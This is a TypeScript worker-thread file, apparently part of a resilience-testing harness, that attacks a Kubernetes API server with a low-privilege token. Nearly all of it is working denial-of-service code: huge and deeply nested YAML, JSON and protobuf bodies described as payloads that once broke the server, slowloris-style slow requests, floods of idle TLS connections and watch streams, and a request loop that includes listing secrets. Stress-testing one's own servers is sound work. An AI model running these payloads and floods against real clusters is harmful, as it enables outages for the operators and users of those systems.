/** A worker thread that does to an API server what a user without rights, or with few, can do. It goes on until it is told to stop. */
import { readlinkSync } from 'node:fs';
import { Agent, request } from 'node:https';
import { setPriority } from 'node:os';
import { connect, type TLSSocket } from 'node:tls';
import { parentPort, workerData } from 'node:worker_threads';
import type { Attack, AttackKind } from './attack.ts';

// Attackers have processors of their own: what this thread burns (setpriority(2) takes a thread's id) is not to be taken from the server.
// Below that it does not come to attack at all beside programs of others.
setPriority(Number(readlinkSync('/proc/thread-self').split('/').at(-1)), 5);

const { url, ca, token, kinds, idleConnections, watches } = workerData as Attack;
const { hostname, port } = new URL(url);
const agent = new Agent({ keepAlive: true, ca });
const counts: Record<string, number> = {};
const open = new Set<{ destroy(): void }>();
let stopped = false;

function count(what: string): void {
  counts[what] = (counts[what] ?? 0) + 1;
}

/** Kinds of which the server has not felt anything yet. */
const awaited = new Set<AttackKind>(kinds);

function felt(kind: AttackKind): void {
  if (awaited.delete(kind) && awaited.size === 0) parentPort?.postMessage('felt');
}

function send(kind: AttackKind, method: string, path: string, body?: Buffer, type = 'application/json'): Promise<void> {
  return new Promise((resolve) => {
    const more = body ? { 'content-type': type, 'content-length': body.length } : {};
    const req = request(url + path, { method, agent, headers: { authorization: `Bearer ${token}`, ...more } }, (res) => {
      count(`${kind} ${res.statusCode}`);
      felt(kind);
      res
        .resume()
        .on('close', resolve)
        .on('error', () => {});
    });
    req.on('error', () => {
      count(`${kind} broken`);
      setTimeout(resolve, 100);
    });
    req.end(body);
  });
}

const review = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const many = (n: number, of: (i: number) => string, between: string): string => Array.from({ length: n }, (_, i) => of(i)).join(between);

/** What broke the server once, and what is just within the limits now. */
const bodies: readonly (readonly [type: string, text: string])[] = [
  ['application/yaml', '['.repeat(1e6)],
  ['application/yaml', `a:\n${'- '.repeat(1.4e6)}`],
  ['application/yaml', many(150_000, (i) => `k${i}: v`, '\n')],
  ['application/yaml', many(45_000, (i) => `k${i}: v`, '\n')],
  ['application/yaml', '!!str '.repeat(400_000)],
  ['application/json', `{${many(210_000, (i) => `"k${i}":1`, ',')}}`],
  ['application/json', `{"spec":{"resourceAttributes":{"fieldSelector":{"requirements":[${many(24_000, () => '{"key":"a"}', ',')}]}}}}`],
  ['application/json', `{"metadata":{"labels":{${many(48_000, (i) => `"k${i}":"v"`, ',')}}}}`],
  ['application/json', `${'['.repeat(500_000)}`],
  ['application/vnd.kubernetes.protobuf', `k8s\0${'\x12\x00'.repeat(1e6)}`],
];

async function sendBodies(): Promise<void> {
  const made = bodies.map(([type, text]) => [type, Buffer.from(text, 'latin1')] as const);
  for (let i = 0; !stopped; i++) {
    const [type, body] = made[i % made.length]!;
    await send('bodies', 'POST', review, body, type);
  }
}

function openConnection(write?: (socket: TLSSocket) => void): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), ca }, () => {
      write?.(socket);
      if (!write) felt('connections');
      resolve();
    });
    open.add(socket);
    socket.on('error', () => {}).resume();
    socket.on('close', () => {
      if (!stopped) count('connections closed');
      open.delete(socket);
      resolve();
    });
  });
}

async function openIdle(): Promise<void> {
  let left = idleConnections;
  const lane = async (): Promise<void> => {
    while (left-- > 0 && !stopped) await openConnection();
  };
  await Promise.all(Array.from({ length: 64 }, lane));
}

function sendSlowly(): void {
  const head = `POST ${review} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: 3000000\r\n\r\n`;
  for (let i = 0; i < 100; i++) {
    void openConnection((socket) => {
      socket.write(head);
      const timer = setInterval(() => socket.write(' '), 1000);
      socket.on('data', (data: Buffer) => {
        count(`slow-bodies ${data.toString('latin1', 9, 12)}`);
        felt('slow-bodies');
      });
      socket.once('close', () => clearInterval(timer));
    });
  }
}

function openWatch(): Promise<void> {
  return new Promise((resolve) => {
    const headers = { authorization: `Bearer ${token}` };
    const req = request(`${url}/api/v1/namespaces/weak/configmaps?watch=true`, { agent, headers }, (res) => {
      count(`watches ${res.statusCode}`);
      felt('watches');
      res.on('error', () => {}).resume();
      if (res.statusCode !== 200) res.on('close', resolve);
      else resolve();
    });
    open.add(req);
    req.on('error', () => resolve());
    req.end();
  });
}

async function openWatches(): Promise<void> {
  let left = watches;
  const lane = async (): Promise<void> => {
    while (left-- > 0 && !stopped) await openWatch();
  };
  await Promise.all(Array.from({ length: 16 }, lane));
}

async function flood(): Promise<void> {
  const map = Buffer.from(JSON.stringify({ metadata: { generateName: 'x-' }, data: { a: 'x'.repeat(500) } }));
  for (let i = 0; !stopped; i++) {
    const [method, path, body] = [
      ['GET', '/api/v1/namespaces/weak/configmaps', undefined] as const,
      ['GET', '/api/v1/secrets', undefined] as const,
      ['POST', '/api/v1/namespaces/weak/configmaps', map] as const,
    ][i % 3]!;
    await send('flood', method, path, body);
  }
}

const start: Readonly<Record<AttackKind, () => void>> = {
  bodies: () => {
    for (let i = 0; i < 16; i++) void sendBodies();
  },
  connections: () => void openIdle(),
  'slow-bodies': sendSlowly,
  watches: () => void openWatches(),
  flood: () => {
    for (let i = 0; i < 64; i++) void flood();
  },
};

parentPort?.on('message', () => {
  stopped = true;
  for (const one of open) one.destroy();
  agent.destroy();
  parentPort?.postMessage(counts);
  parentPort?.close();
});
for (const kind of kinds) start[kind]();
